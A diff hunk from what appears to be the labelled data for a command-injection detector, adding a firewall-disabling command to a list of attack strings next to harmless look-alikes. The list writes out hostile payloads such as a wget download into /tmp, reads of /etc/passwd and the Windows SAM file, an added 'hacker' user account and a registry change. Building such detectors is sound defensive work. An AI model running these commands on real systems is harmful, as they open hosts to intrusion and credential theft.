@@ -127,7 +127,7 @@ CMDI_ATTACKS = [
     "x`sleep${IFS}5`", "; python3 -c 'import os'", "|| wget http://x/y -O /tmp/y",
     "; sleep 15", "& sleep 1", "|| sleep 15", "&& sleep 5;", "type C:\\Windows\\repair\\SAM", "dir C:\\",
     "net user hacker Password1 /ADD", "| system('sleep 5');", "; shell_exec(\"cat /etc/passwd\")",
-    "|usr/bin/id\\n", "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v x /f",
+    "netsh firewall set opmode disable", "|usr/bin/id\\n", "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v x /f",
 ]
 CMDI_BENIGN = [
     "cat food", "ls 460 lexus", "time warner cable", "ping pong table", "find my phone", "head and shoulders",
